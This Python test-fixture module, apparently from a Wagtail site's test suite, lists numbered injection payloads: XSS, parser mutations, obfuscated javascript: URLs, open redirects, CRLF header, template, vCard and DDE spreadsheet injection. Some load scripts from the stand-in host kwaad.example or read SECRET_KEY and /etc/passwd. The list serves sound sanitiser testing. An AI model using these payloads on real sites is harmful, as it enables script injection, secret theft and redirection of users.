"""Texts that do harm where somebody forgets to escape, clean or check; and a few that must come through unharmed.

All written for this suite. ``§`` becomes the number of the text, so that each can be recognised wherever it comes out:
``kwik(17)`` is what a browser would run, ``Kwik17`` is what a reader would see.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Final

HOST: Final = "kwaad.example"

_HOSTILE: Final[dict[str, tuple[str, ...]]] = {
    "script tags": (
        "<script>kwik(§)</script>",
        "<ScRiPt>kwik(§)</sCrIpT>",
        "<script src=//kwaad.example/Kwik§.js></script>",
        "<script type=module>import 'https://kwaad.example/Kwik§.js'</script>",
        "<script\x0c>kwik(§)</script\x0c>",
        "<script/>kwik(§)</script/>",
        "<scr<script>ipt>kwik(§)</scr</script>ipt>",
        "</p><script>kwik(§)//</p>",
        "<script>kwik(§)<!--",
        "<\u017fcript>kwik(§)</\u017fcript>",
        "<script async defer nomodule data-x=1>kwik(§)</script foo>",
        "Kwik§ <script>/*<b>*/kwik(§)/*</b>*/</script> einde",
    ),
    "event handlers": (
        "<img src=nergens onerror=kwik(§)>",
        "<img/src=nergens/onerror=kwik(§)>",
        "<b onmouseenter='kwik(§)'>Kwik§</b>",
        "<p onfocus=kwik(§) tabindex=0 autofocus>Kwik§</p>",
        "<details open ontoggle=kwik(§)><summary>Kwik§</summary></details>",
        "<body onload=kwik(§)>",
        "<video onloadstart=kwik(§)><source></video>",
        "<input onfocus=kwik(§) autofocus>",
        "<em\tonanimationstart\n=\rkwik(§)>Kwik§</em>",
        "<strong ONCLICK=kwik(§)>Kwik§</strong>",
        "<li onpointerover=`kwik(§)`>Kwik§</li>",
        "<a href='/x' onclick=kwik(§)>Kwik§</a>",
        "<h2 onbeforematch=kwik(§) hidden=until-found>Kwik§</h2>",
    ),
    "mutations": (
        "<noscript><b title='</noscript><img src=x onerror=kwik(§)>'>Kwik§</b></noscript>",
        "<textarea><i title='</textarea><img src=x onerror=kwik(§)>'></textarea>",
        "<title><i title='</title><img src=x onerror=kwik(§)>'></title>",
        "<xmp><i title='</xmp><img src=x onerror=kwik(§)>'></xmp>",
        "<svg></p><style><b title='</style><img src=x onerror=kwik(§)>'>",
        "<math><mi></br><style><!--</style><b title='--><img src=x onerror=kwik(§)>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=kwik(§)>",
        "<select><noembed></select><script>kwik(§)</script>",
        "<table><caption><a href='/x'><table><a href='/y' onclick=kwik(§)>Kwik§</a>",
        "<!--[if gte IE 5]><script>kwik(§)</script><![endif]-->",
        "<!-- --!><img src=x onerror=kwik(§)>",
        "<![CDATA[><img src=x onerror=kwik(§)>]]>",
        "<?php><img src=x onerror=kwik(§)>?>",
        "<plaintext><img src=x onerror=kwik(§)>",
        "<template><b><style><template></style><img src=x onerror=kwik(§)></template>",
        "<ul><li><table><li><b><img src=x onerror=kwik(§)",
    ),
    "addresses that run": (
        "javascript:kwik(§)",
        "javascript:1",
        "JAVASCRIPT:kwik(§)",
        "javascript:/*Kwik§*/kwik(§)",
        "javascript://kwaad.example/%0akwik(§)",
        "vbscript:kwik(§)",
        "data:text/html,<script>kwik(§)</script>",
        "data:text/html;base64,PHNjcmlwdD5rd2lrKDEpPC9zY3JpcHQ+Kwik§",
        "data:image/svg+xml,<svg onload='kwik(§)'/>",
        "blob:https://kwaad.example/Kwik§",
        "filesystem:https://kwaad.example/temporary/Kwik§",
        "view-source:javascript:kwik(§)",
        "feed:javascript:kwik(§)",
        "jar:https://kwaad.example/x.jar!/Kwik§",
        "<a href=javascript:kwik(§)>Kwik§</a>",
        "<a href='java&Tab;script:kwik(§)'>Kwik§</a>",
    ),
    "hidden schemes": (
        "java\tscript:kwik(§)",
        "java\nscript:kwik(§)",
        "\x01javascript:kwik(§)",
        "\u00a0javascript:kwik(§)",
        "\ufeffjavascript:kwik(§)",
        "javascript\u200b:kwik(§)",
        "java\u00adscript:kwik(§)",
        "javascript\uff1akwik(§)",
        "\uff4aavascript:kwik(§)",
        "&#106;avascript:kwik(§)",
        "&#x6A&#x61vascript:kwik(§)",
        "javascript&colon;kwik(§)",
        "javascript&amp;colon;kwik(§)",
        "%6aavascript:kwik(§)",
        "<a href=' \x0bjavascript:kwik(§)'>Kwik§</a>",
        "<a href='&#1;javascript&#58;kwik(§)'>Kwik§</a>",
    ),
    "false hosts": (
        "//kwaad.example/Kwik§",
        "/\\kwaad.example/Kwik§",
        "\\\\kwaad.example\\Kwik§",
        "/\t/kwaad.example/Kwik§",
        "https:kwaad.example/Kwik§",
        "https:///kwaad.example/Kwik§",
        "https://kwikstaart.example@kwaad.example/Kwik§",
        "https://kwikstaart.example:geheim@kwaad.example/Kwik§",
        "https://kwaad.example\\@kwikstaart.example/Kwik§",
        "https://kwaad.example\u2044kwikstaart.example/Kwik§",
        "https://\uff4bwaad.example/Kwik§",
        "https://kwikstaart.example/\u202egnp.Kwik§",
        "<a href='//kwaad.example/Kwik§'>de school</a>",
        "<base href='https://kwaad.example/Kwik§/'>",
        "<meta http-equiv=refresh content='0;url=https://kwaad.example/Kwik§'>",
    ),
    "mail and telephone": (
        "mailto:a@kwaad.example?bcc=kwik§@kwaad.example",
        "mailto:a@kwaad.example,kwik§@kwaad.example",
        "a@kwaad.example\r\nBcc: kwik§@kwaad.example",
        "a@kwaad.example%0d%0aBcc:kwik§@kwaad.example",
        "kwik§@kwaad.example?subject=hoi&body=hoi",
        "Kwik§ <kwik§@kwaad.example>",
        '"><kwik§"@kwaad.example',
        "tel:*21*070012345§#",
        "*#06#",
        "**21*070012345§#",
        "070 012 34 56;ext=§",
        "070 012 34 56,,*§#",
        "tel:+31700123456;phone-context=kwaad.example;Kwik§",
        "sms:0700123456?body=Kwik§",
        "whatsapp:31700123456?text=Kwik§",
    ),
    "drawings, styles and frames": (
        "<svg onload=kwik(§)>",
        "<svg><script>kwik(§)</script></svg>",
        "<svg><a xlink:href='javascript:kwik(§)'><text y=9>Kwik§</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:kwik(§) />",
        "<math href='javascript:kwik(§)'>Kwik§</math>",
        "<style>*{background:url(https://kwaad.example/Kwik§)}</style>",
        "<p style='background:url(//kwaad.example/Kwik§)'>Kwik§</p>",
        "<link rel=stylesheet href=https://kwaad.example/Kwik§.css>",
        "<iframe src='javascript:kwik(§)'></iframe>",
        "<iframe srcdoc='<script>parent.kwik(§)</script>'></iframe>",
        "<object data='https://kwaad.example/Kwik§'></object>",
        "<img src=https://kwaad.example/Kwik§.png>",
        "<form action=https://kwaad.example/Kwik§><button formaction='javascript:kwik(§)'>Kwik§</button></form>",
    ),
    "templates": (
        "{{ 7|add:§ }} Kwik§",
        "{{ request.user.password }} Kwik§",
        "{{ settings.SECRET_KEY }} Kwik§",
        "{% debug %} Kwik§",
        "{% include '/etc/passwd' %} Kwik§",
        "{% load gripwagtail %}{% grip_contacts %} Kwik§",
        "{% endblock %}{% block content %}Kwik§",
        "{# Kwik§ #}{% comment %}",
        "${kwik(§)} #{kwik(§)} <%= kwik(§) %>",
        "{{constructor.constructor('kwik(§)')()}}",
        "%(value)s %s %n {0} {0.__class__} Kwik§",
    ),
    "out of an attribute": (
        '" onmouseover="kwik(§)',
        "' onmouseover='kwik(§)",
        '"><script>kwik(§)</script>',
        "'><img src=x onerror=kwik(§)>",
        '" autofocus onfocus=kwik(§) x="',
        "` onmouseover=kwik(§) `",
        "x onmouseover=kwik(§) y",
        '&quot; onmouseover=&quot;kwik(§)',
        '"/><svg/onload="kwik(§)',
        '" style="background:url(https://kwaad.example/Kwik§)',
        'Kwik§" class="grip-exit" data-grip-exit="https://kwaad.example/',
    ),
    "out of a script or of JSON": (
        "</script><script>kwik(§)</script>",
        "</SCRIPT ><img src=x onerror=kwik(§)>",
        '"};kwik(§);//',
        "';kwik(§);//",
        "\\';kwik(§);//",
        '\\u003cscript>kwik(§)</script>',
        "\u2028kwik(§)\u2029",
        "<!--<script>kwik(§)",
        "-->]]></script>kwik(§)",
        '{"@context":"https://schema.org","@type":"Organization","url":"javascript:kwik(§)"}',
        '","telephone":"0900","name":"Kwik§',
        '<script type="application/ld+json">{"url":"https://kwaad.example/Kwik§"}</script>',
    ),
    "lines of a card": (
        "Kwik§\r\nTEL:0900123456",
        "Kwik§\nEND:VCARD\nBEGIN:VCARD",
        "Kwik§\rURL:https://kwaad.example/",
        "Kwik§\u2028TEL:0900123456",
        "Kwik§\x85EMAIL:x@kwaad.example",
        "Kwik§\x0bNOTE:x\x0cTEL:1",
        "Kwik§;X=1:TEL;VALUE=uri:tel:0900",
        "Kwik§,\\;\\n\\",
        "Kwik§\\nTEL:0900123456",
        "item1.TEL:0900§",
    ),
    "formulas": (
        "=1+§",
        '=HYPERLINK("https://kwaad.example/Kwik§","lees")',
        "+31*§",
        "-1-§",
        "@SUM(1,§)",
        "\t=1+§",
        "\r=1+§",
        "\n=1+§",
        " =1+§",
        "=cmd|'/c calc'!A§",
        "＝1+§",
        'Kwik§";=1+1;"',
        "Kwik§\n=1+1",
    ),
    "directions and nothing to see": (
        "Kwik§ \u202etxet neppirtS\u202c",
        "Kwik§ \u2066\u2067\u2068",
        "\u2069\u2069Kwik§\u202d",
        "Kwik\u200b§\u200c\u200d\u2060",
        "\u3164\u115f\u2800Kwik§",
        "Kwik§" + "\u0301" * 60,
        "\U000e0001\U000e0041Kwik§",
        "Kwik§\ufffe\uffff",
    ),
    "tags of Wagtail": (
        '<embed embedtype="image" id="1" format="x" alt="Kwik§">',
        '<embed embedtype="media" url="https://kwaad.example/Kwik§"/>',
        '<embed embedtype="kwik§" onload="kwik(§)"/>',
        '<a linktype="kwik§" id="1" href="javascript:kwik(§)">Kwik§</a>',
        '<a linktype="page" id="999999§">Kwik§</a>',
        '<a linktype="document" id="999999§" onclick="kwik(§)">Kwik§</a>',
        '<a linktype="page" id="1&quot; onclick=&quot;kwik(§)">Kwik§</a>',
        '<a linktype="page" id="{{ 1 }}" href="https://kwaad.example/Kwik§">Kwik§</a>',
        '<a href="/x" linktype="" data-block-key="kwik§" target="_blank">Kwik§</a>',
    ),
    "control characters": (
        "Kwik§\x00<b\x00>",
        "<scr\x00ipt>kwik(§)</scr\x00ipt>",
        "Kwik§\x1b]0;x\x07\x1b[2J",
        "Kwik§\x08\x08\x7f",
        "Kwik§\ud800",
        "&#0;&#x0D;&#xD800;Kwik§&#99999999999;",
    ),
    "very much": (
        "Kwik§" + "a" * 5_000,
        "Kwik§" + "<b>" * 800,
        "<a href='" + "/x" * 2_000 + "' onclick=kwik(§)>Kwik§</a>",
        "Kwik§" + " x=1" * 700 + ">",
        "&" * 2_000 + "Kwik§",
        "<" * 2_000 + "Kwik§",
        "Kwik§" + "\n" * 900,
    ),
}  # fmt: skip

# By what is good in it. These have to come out as they went in.
BENIGN: Final[dict[str, str]] = {
    "Dutch": "Zó praten wij: één appje ’s avonds, géén “grapjes” — oké?",
    "Arabic": "نحن نتحدث بلطف، دائمًا",
    "Ukrainian": "Ми говоримо чемно — п'ятеро об\u02bcєднаних",
    "Turkish and Polish": "Çocuğunuzla konuşun, źdźbło w cudzym oku",
    "emoji": "Goed gedaan 👍🏽 👨\u200d👩\u200d👧 🇳🇱",
    "ampersand": "AT&T en V&D; 5 &amp; 6",
    "less than": "a < b en c > d",
    "quotes": 'Juf "An" zegt: \'s ochtends',
    "braces": "Gebruik {accolades} en 100%",
}


@dataclass(frozen=True)
class Vector:
    """One hostile text. Its number is in it, so that no two are the same."""

    number: int
    kind: str
    text: str

    @property
    def call(self) -> str:
        """What a browser would run."""
        return f"kwik({self.number})"

    @property
    def sign(self) -> str:
        """What a reader may see of it."""
        return f"kwik{self.number}"


def _numbered() -> tuple[Vector, ...]:
    pairs = [(kind, text) for kind, texts in _HOSTILE.items() for text in texts]
    # From 100, so that no number is part of another.
    return tuple(Vector(n, kind, text.replace("§", str(n))) for n, (kind, text) in enumerate(pairs, start=100))


VECTORS: Final = _numbered()

__all__ = ["BENIGN", "HOST", "VECTORS", "Vector"]
